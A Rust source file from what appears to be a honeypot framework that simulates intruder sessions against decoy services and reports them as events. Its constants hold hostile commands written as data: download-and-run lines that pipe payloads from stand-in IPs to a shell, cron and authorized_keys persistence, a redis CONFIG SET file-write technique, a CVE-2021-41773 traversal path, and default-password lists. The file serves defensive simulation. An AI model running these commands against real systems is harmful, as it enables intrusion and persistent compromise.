//! What one intruder does to one service in a row, reported through a tap as its decoy does.

use std::{path::Path, sync::Arc};

use decnet_decoys::evidence::{Tap, artifact::Capture};
use decnet_model::{
    clock::{Clock as _, ManualClock},
    event::{ClientInfoKind, CloseReason, Event, FingerprintKind, Secret},
};
use decnet_persona::Rng;
use time::Duration;

use super::{
    Attacker, Kind, files,
    shell::{ACCOUNTS, Account, Shell, answer, greeting},
};

const USERS: &[&str] = &[
    "root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi", "deploy", "ftpuser",
    "www-data",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "P@ssw0rd",
    "toor",
    "1qaz2wsx",
    "changeme",
    "letmein",
    "raspberry",
    "ubuntu",
    "test123",
    "admin123",
    "Passw0rd!",
    "000000",
    "abc123",
    "oracle",
    "master",
    "welcome1",
    "server2024",
    "Zxcvbn!@#",
    "пароль",
];
/// What bots bring along, and what they then run.
const BOT_SCRIPTS: &[(Option<&str>, &[&str])] = &[
    (
        None,
        &[
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            "free -m",
            "cd /tmp && wget http://198.51.100.77/x86 -O .x; chmod +x .x; ./.x",
            "history -c",
        ],
    ),
    (
        None,
        &[
            "echo -e \"\\x6F\\x6B\"",
            "/bin/busybox MIRAI",
            "cat /bin/echo",
            "cd /dev/shm; tftp -g -r mips 203.0.113.9; sh mips",
        ],
    ),
    (
        None,
        &[
            "nproc",
            "curl -s http://203.0.113.44/m.sh | bash",
            "crontab -l",
            "(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.44/m.sh | bash') | crontab -",
        ],
    ),
    (
        Some("/tmp/.k5"),
        &[
            "uname -a",
            "chmod +x /tmp/.k5",
            "/tmp/.k5 -d",
            "echo '*/10 * * * * root /tmp/.k5 -d' > /etc/cron.d/sysupdate",
        ],
    ),
    (
        None,
        &[
            "nproc",
            "cat > /dev/shm/.u.sh",
            "sh /dev/shm/.u.sh",
            "rm -f /dev/shm/.u.sh; wget -q http://198.51.100.77/u.sh",
        ],
    ),
];
const HUMAN_COMMANDS: &[&str] = &[
    "whoami",
    "id",
    "ls -la",
    "cat /etc/passwd",
    "w",
    "last | head",
    "ps aux",
    "ss -tlnp",
    "cat ~/.bash_history",
    "find / -name '*.conf' 2>/dev/null | head",
    "cat /var/www/html/config.php",
    "sudo -l",
    "ip a",
    "cat /etc/shadow",
    "mysql -u root -p",
    "cat .env",
    "ping -c 1 10.0.0.1",
    "ssh db-02",
];
/// What a person leaves behind.
const HUMAN_FILES: &[&str] = &[
    "echo '* * * * * root curl -s http://203.0.113.44/k.sh | sh' > /etc/cron.d/sysupdate",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludmVudGVkRm9yQURlbW9uc3RyYXRpb24h demo@198.51.100.9' > /root/.ssh/authorized_keys",
    "echo '<h1>Somebody was here</h1>' > /var/www/html/index.html",
];
/// Folder and file that worms have redis write, and what into it.
const REDIS_AIMS: &[(&str, &str, &str)] = &[
    (
        "/var/spool/cron",
        "root",
        "*/2 * * * * curl http://203.0.113.201/r.sh|sh",
    ),
    (
        "/root/.ssh",
        "authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludmVudGVkRm9yQURlbW9uc3RyYXRpb24h worm@203.0.113.201",
    ),
];
const WEB_PATHS: &[&str] = &[
    "/",
    "/robots.txt",
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/admin/",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci",
    "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/manager/html",
    "/boaform/admin/formLogin",
    "/solr/admin/info/system",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
];
const SSH_CLIENTS: &[&str] = &[
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_9.6",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-PUTTY",
    "SSH-2.0-libssh_0.9.6",
];

/// A visit that goes on.
pub(super) struct Visit<'a> {
    pub(super) decky: &'a str,
    pub(super) service: &'static str,
    pub(super) attacker: &'a Attacker,
    pub(super) clock: &'a Arc<ManualClock>,
    pub(super) tap: Tap,
    /// Where a session is recorded, if it is.
    pub(super) transcripts: Option<&'a Path>,
    /// Whether keys are typed and answered: what nobody will look at is not made.
    pub(super) shows: bool,
    /// Whether files may be left.
    pub(super) leaves: bool,
    /// Names under which files were kept; empty ones for those that were not.
    pub(super) files: Vec<String>,
    /// Sessions that were recorded.
    pub(super) recordings: u64,
}

impl<'a> Visit<'a> {
    pub(super) fn act(&mut self, rng: &mut Rng) {
        let begin = self.clock.now();
        self.tap.emit(Event::Connect);
        self.client(rng);
        let reason = match self.attacker.kind {
            Kind::Scanner => CloseReason::Peer,
            Kind::BruteForcer => self.brute_force(rng),
            Kind::Bot => self.bot(rng),
            Kind::RedisWorm => self.redis(),
            Kind::WebScanner => self.web(rng),
            Kind::Spammer => self.mail(rng),
            Kind::Human => self.human(rng),
        };
        self.wait(rng, 20, 400);
        let duration = (self.clock.now() - begin).whole_milliseconds();
        let (bytes_in, bytes_out) = (rng.range(40, 4000), rng.range(100, 20_000));
        self.tap.emit(Event::Disconnect {
            bytes_in,
            bytes_out,
            duration_ms: u64::try_from(duration).unwrap_or(0),
            reason,
        });
    }

    /// What the client's software shows of itself.
    fn client(&self, rng: &mut Rng) {
        if self.service != "ssh" {
            return;
        }
        let tool = self.attacker.tool;
        let version = SSH_CLIENTS.get(tool).copied().unwrap_or("SSH-2.0-Go");
        self.wait(rng, 5, 60);
        self.tap.emit(Event::ClientInfo {
            kind: ClientInfoKind::SshVersion,
            value: version.as_bytes(),
        });
        let hash = format!(
            "{:032x}",
            0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835_u128
                .wrapping_mul(u128::try_from(tool).unwrap_or(0) * 7919 + 104_729)
        );
        self.tap.emit(Event::Fingerprint {
            kind: FingerprintKind::Hassh,
            hash: &hash,
            raw: "curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
        });
    }

    fn brute_force(&mut self, rng: &mut Rng) -> CloseReason {
        for _ in 0..rng.range(3, 12) {
            self.wait(rng, 80, 900);
            let (user, password) = (rng.word(USERS), rng.word(PASSWORDS));
            if self.service == "mysql" {
                let text = format!("$mysqlna${}*{}", rng.hex(40), rng.hex(40));
                self.tap.emit(Event::AuthAttempt {
                    principal: user.as_bytes(),
                    secret: Secret::Crackable {
                        kind: "mysql_native_password",
                        text,
                    },
                    mechanism: "mysql_native_password",
                    accepted: false,
                });
                return CloseReason::Server;
            }
            self.attempt(user, password, false);
        }
        if self.service == "ftp" && self.leaves && rng.chance(1, 3) {
            self.wait(rng, 80, 900);
            let user = "www-data";
            self.attempt(user, rng.word(PASSWORDS), true);
            self.wait(rng, 60, 300);
            self.tap.emit(Event::Command {
                line: b"STOR index.html",
                detail: &[("user", user.as_bytes())],
            });
            let page = files::page(self.attacker.tool);
            self.leave("/var/www/index.html", "stor", user, page.as_bytes());
        }
        CloseReason::Peer
    }

    fn attempt(&self, user: &str, password: &str, accepted: bool) {
        self.tap.emit(Event::AuthAttempt {
            principal: user.as_bytes(),
            secret: Secret::Plaintext(password.as_bytes()),
            mechanism: if self.service == "ftp" { "PASS" } else { "password" },
            accepted,
        });
    }

    /// Leave a file, which is kept and reported.
    fn leave(&mut self, path: &str, via: &'static str, user: &str, content: &[u8]) {
        let stored = self.capture(path, via, user, content).finish();
        self.files.push(stored.stored_as);
    }

    fn capture(&self, path: &str, via: &'static str, user: &str, content: &[u8]) -> Capture {
        let mut capture = self.tap.artifact(path.as_bytes(), via, user.as_bytes());
        capture.write(content);
        capture
    }

    fn login(&self, rng: &mut Rng) -> Account {
        self.wait(rng, 100, 1500);
        let account = rng.pick(ACCOUNTS).copied().unwrap_or(Account {
            name: "root",
            home: "/root",
        });
        self.attempt(account.name, rng.word(PASSWORDS), true);
        account
    }

    fn shell(&mut self, rng: &mut Rng, account: Account, terminal: Option<(&str, (u32, u32))>) -> Shell<'a> {
        let of = (self.decky, account);
        let shell = Shell::begin(self.clock, &self.tap, rng, of, self.transcripts, terminal);
        self.recordings += u64::from(shell.is_recorded());
        shell
    }

    fn command(&self, line: &str, account: Account) {
        self.tap.emit(Event::Command {
            line: line.as_bytes(),
            detail: &[
                ("user", account.name.as_bytes()),
                ("cwd", account.home.as_bytes()),
            ],
        });
    }

    fn bot(&mut self, rng: &mut Rng) -> CloseReason {
        let account = self.login(rng);
        let script = BOT_SCRIPTS.get(self.attacker.tool % BOT_SCRIPTS.len());
        let (brings, mut lines) = script.copied().unwrap_or((None, &[]));
        if self.leaves {
            if let Some(path) = brings {
                self.wait(rng, 100, 700);
                self.leave(path, "sftp", account.name, &files::program(self.attacker.tool));
            }
        } else if lines.iter().any(|line| line.contains(" > ")) {
            // It sees that it was here before, and goes.
            lines = lines.get(..1).unwrap_or_default();
        }
        let mut shell = self.shell(rng, account, None);
        for line in lines {
            self.wait(rng, 40, 250);
            if self.shows {
                shell.feed(&format!("{line}\n"));
            }
            self.command(line, account);
            if let Some(url) = line.split([' ', ';']).find(|w| w.starts_with("http://")) {
                self.tap.emit(Event::FetchAttempt {
                    url: url.as_bytes(),
                    via: line
                        .split([' ', ';'])
                        .find(|w| ["wget", "curl", "tftp"].contains(w))
                        .unwrap_or("curl"),
                });
            }
            if !self.shows {
                continue;
            }
            if let Some(path) = line.strip_prefix("cat > ") {
                let script = files::script(self.attacker.tool);
                shell.feed(&script);
                self.leave(path, "redirect", account.name, script.as_bytes());
            }
            self.redirect(line, account);
            let told = answer(line, self.decky, account);
            if !told.is_empty() {
                self.wait(rng, 2, 30);
                shell.print(&told);
            }
        }
        CloseReason::Peer
    }

    /// Leave what a command line writes into a file, if it does.
    fn redirect(&mut self, line: &str, account: Account) {
        if let Some((path, content)) = files::redirected(line) {
            self.leave(path, "redirect", account.name, content.as_bytes());
        }
    }

    fn human(&mut self, rng: &mut Rng) -> CloseReason {
        let account = self.login(rng);
        let size = [(80, 24), (120, 32), (172, 45)]
            .get(self.attacker.tool % 3)
            .copied();
        let terminal = ("xterm-256color", size.unwrap_or((80, 24)));
        self.tap.emit(Event::ClientInfo {
            kind: ClientInfoKind::Terminal,
            value: terminal.0.as_bytes(),
        });
        let mut shell = self.shell(rng, account, Some(terminal));
        if self.shows {
            shell.show(&greeting(self.decky));
        }
        let mut lines: Vec<&str> = (0..rng.range(5, 16)).map(|_| rng.word(HUMAN_COMMANDS)).collect();
        if self.leaves && rng.chance(1, 2) {
            lines.push(rng.word(HUMAN_FILES));
        }
        lines.push("exit");
        for (n, line) in lines.into_iter().enumerate() {
            if self.shows {
                shell.prompt();
            }
            self.wait(rng, 1_500, 25_000);
            if n == 4 && self.attacker.tool == 1 {
                shell.resize(132, 43);
            }
            if self.shows {
                shell.type_line(rng, line);
            }
            self.command(line, account);
            if self.shows {
                self.redirect(line, account);
                self.wait(rng, 2, 40);
                shell.show(&answer(line, self.decky, account));
            }
        }
        CloseReason::Peer
    }

    fn redis(&mut self) -> CloseReason {
        let (folder, file, value) = REDIS_AIMS
            .get(self.attacker.tool % REDIS_AIMS.len())
            .copied()
            .unwrap_or(("/var/spool/cron", "root", ""));
        let exploit = |bytes: &str| {
            self.tap.emit(Event::Exploit {
                name: "redis-dump-to-file",
                bytes: bytes.as_bytes(),
            });
        };
        let put = format!("SET x \"\\n\\n{value}\\n\\n\"");
        let dir = format!("CONFIG SET dir {folder}");
        let name = format!("CONFIG SET dbfilename {file}");
        for line in ["INFO", dir.as_str(), name.as_str(), put.as_str(), "SAVE"] {
            self.clock.advance(Duration::milliseconds(30));
            self.tap.emit(Event::Command {
                line: line.as_bytes(),
                detail: &[("database", b"0")],
            });
            if line.starts_with("CONFIG SET ") {
                exploit(line);
            }
        }
        let path = format!("{folder}/{file}");
        exploit(&format!("SAVE to {path}"));
        if self.leaves {
            self.leave(
                &path,
                "redis-save",
                "default",
                format!("\n\n{value}\n\n").as_bytes(),
            );
        }
        CloseReason::Peer
    }

    fn web(&mut self, rng: &mut Rng) -> CloseReason {
        let agent = AGENTS.get(self.attacker.tool).copied().unwrap_or("curl/8.5.0");
        let headers: &[(&[u8], &[u8])] = &[(b"User-Agent", agent.as_bytes()), (b"Accept", b"*/*")];
        for _ in 0..rng.range(2, 14) {
            self.wait(rng, 15, 300);
            let path = rng.word(WEB_PATHS);
            let status = if path == "/" || path == "/robots.txt" {
                200
            } else {
                404
            };
            self.tap.emit(Event::Request {
                method: b"GET",
                target: path.as_bytes(),
                status,
                headers,
                body: b"",
            });
            if path.contains("%2e") {
                self.tap.emit(Event::Exploit {
                    name: "CVE-2021-41773",
                    bytes: path.as_bytes(),
                });
            }
        }
        if self.leaves && rng.chance(1, 6) {
            self.wait(rng, 15, 300);
            let page = files::page(self.attacker.tool);
            self.tap.emit(Event::Request {
                method: b"PUT",
                target: b"/index.html",
                status: 405,
                headers,
                body: page.as_bytes(),
            });
            self.leave("/index.html", "put", "", page.as_bytes());
        }
        CloseReason::Peer
    }

    fn mail(&mut self, rng: &mut Rng) -> CloseReason {
        let ehlo = format!("mail{}.example.net", rng.below(90));
        self.tap.emit(Event::ClientInfo {
            kind: ClientInfoKind::EhloName,
            value: ehlo.as_bytes(),
        });
        for _ in 0..rng.range(1, 4) {
            self.wait(rng, 60, 400);
            let (user, password) = (rng.word(USERS), rng.word(PASSWORDS));
            self.tap.emit(Event::AuthAttempt {
                principal: user.as_bytes(),
                secret: Secret::Plaintext(password.as_bytes()),
                mechanism: "AUTH LOGIN",
                accepted: false,
            });
        }
        if self.leaves && rng.chance(1, 2) {
            self.wait(rng, 60, 400);
            let (from, to) = (format!("billing@{ehlo}"), "postmaster@localhost");
            let subject = format!("Invoice {}", rng.range(1_000, 1_012));
            let queue_id = rng.hex(10).to_ascii_uppercase();
            let mail = files::mail(&from, to, &subject);
            let stored = self
                .capture(&format!("{queue_id}.eml"), "smtp", "", mail.as_bytes())
                .keep();
            self.tap.emit(Event::MailAccepted {
                from: from.as_bytes(),
                to: &[to.as_bytes().to_vec()],
                subject: subject.as_bytes(),
                file: stored.as_captured(),
                queue_id: &queue_id,
            });
            self.files.push(stored.stored_as);
        }
        self.tap.emit(Event::ForwardRefused {
            via: "relay",
            target: b"victim@example.org",
        });
        CloseReason::Server
    }

    fn wait(&self, rng: &mut Rng, low_ms: u64, high_ms: u64) {
        let ms = i64::try_from(rng.range(low_ms, high_ms)).unwrap_or(0);
        self.clock.advance(Duration::milliseconds(ms));
    }
}
